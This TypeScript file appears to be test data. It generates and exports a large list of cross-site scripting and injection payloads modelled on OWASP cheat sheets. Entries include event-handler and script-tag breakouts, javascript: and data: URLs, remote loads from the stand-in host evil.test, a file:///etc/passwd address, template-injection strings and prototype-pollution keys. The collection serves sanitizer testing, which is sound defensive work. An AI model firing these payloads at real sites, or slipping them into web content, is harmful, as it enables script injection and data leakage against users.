/**
 * Text that runs, loads or leaks wherever it is taken for markup, an address or a style. Each calls `alert` or asks `evil.test`. Own
 * collection, after the classes of OWASP's "XSS Filter Evasion Cheat Sheet" and "HTML5 Security Cheatsheet".
 */
const RUNS = 'alert(1)';

const TAGS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video',
  'audio src=x',
  'iframe',
  'object data=x',
  'marquee',
  'textarea autofocus',
  'select autofocus',
  'button autofocus',
  'a href=# tabindex=1 autofocus',
  'math',
];
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onmouseover', 'onanimationstart', 'onpointerenter'];

const handlers = TAGS.flatMap((tag, at) => EVENTS.filter((_, each) => (each + at) % 2 === 0).map((event) => `<${tag} ${event}=${RUNS}>`));

const scripts = [
  `<script>${RUNS}</script>`,
  `<ScRiPt >${RUNS}</sCrIpT>`,
  '<script src=https://evil.test/x.js></script>',
  `"><script>${RUNS}</script>`,
  `'><script>${RUNS}</script>`,
  `</title><script>${RUNS}</script>`,
  `</textarea><script>${RUNS}</script>`,
  `</style><script>${RUNS}</script>`,
  `<!--><script>${RUNS}</script>-->`,
  `<![CDATA[><script>${RUNS}</script>]]>`,
  `<noscript><p title="</noscript><script>${RUNS}</script>">`,
  `<svg><script>${RUNS}</script></svg>`,
  `<script>${RUNS}//`,
  `<<script>${RUNS}//<</script>`,
];

const addresses = [
  `javascript:${RUNS}`,
  `JaVaScRiPt:${RUNS}`,
  `java\tscript:${RUNS}`,
  `java\nscript:${RUNS}`,
  ` javascript:${RUNS}`,
  `\u0001javascript:${RUNS}`,
  `javascript://%0a${RUNS}`,
  `javascript://evil.test/%0a${RUNS}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUNS}</script>`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  `blob:https://evil.test/1`,
  'file:///etc/passwd',
  'filesystem:https://evil.test/x',
  'view-source:https://evil.test/',
  'chrome://settings',
  'about:blank',
  '//evil.test/x',
  '\\\\evil.test\\x',
  'http://evil.test/',
  `https://evil.test/"onmouseover="${RUNS}`,
  `mailto:a@b.test?body=<script>${RUNS}</script>`,
  `tel:+1"onclick="${RUNS}`,
  `<a href="javascript:${RUNS}">x</a>`,
  `<a href=javascript&colon;${RUNS}>x</a>`,
  `<form action=javascript:${RUNS}><button>x</button></form>`,
];

const loads = [
  '<img src=https://evil.test/pixel.png>',
  '<img srcset="https://evil.test/pixel.png 1x">',
  '<picture><source srcset=https://evil.test/p.png><img></picture>',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<link rel=preload as=image href=https://evil.test/p.png>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<style>*{background:url(https://evil.test/p.png)}</style>',
  '<div style="background:url(https://evil.test/p.png)">x</div>',
  '<table background=https://evil.test/p.png>',
  '<video poster=https://evil.test/p.png></video>',
  '<iframe src=https://evil.test/></iframe>',
  `<iframe srcdoc="<script>${RUNS}</script>"></iframe>`,
  '<embed src=https://evil.test/x.swf>',
  '<object data=https://evil.test/x></object>',
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<base href=https://evil.test/>',
  '<svg><image href=https://evil.test/p.png /></svg>',
  '<svg><use href=https://evil.test/s.svg#x /></svg>',
  'https://evil.test/pixel.png',
  '![x](https://evil.test/pixel.png)',
  'url(https://evil.test/p.png)',
  '@import url(https://evil.test/x.css)',
  '";background-image:url(https://evil.test/p.png);"',
];

const odd = [
  `{{constructor.constructor('${RUNS}')()}}`,
  `\${${RUNS}}`,
  `#{${RUNS}}`,
  `{n, plural, one {<script>${RUNS}</script>}}`,
  '__proto__',
  'constructor',
  '</script>',
  `<x onclick=${RUNS}>click</x>`,
  `<p slot=x id=root>`,
  `&lt;script&gt;${RUNS}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUNS}&#62;`,
  `\u202e<script>${RUNS}</script>`,
  `%3Cscript%3E${RUNS}%3C/script%3E`,
  `<math><mtext></p><img src=x onerror=${RUNS}></mtext></math>`,
  `<svg><animate onbegin=${RUNS} attributeName=x></svg>`,
  `<div popover id=palette-list>x</div>`,
];

export const PAYLOADS: readonly string[] = [...handlers, ...scripts, ...addresses, ...loads, ...odd];
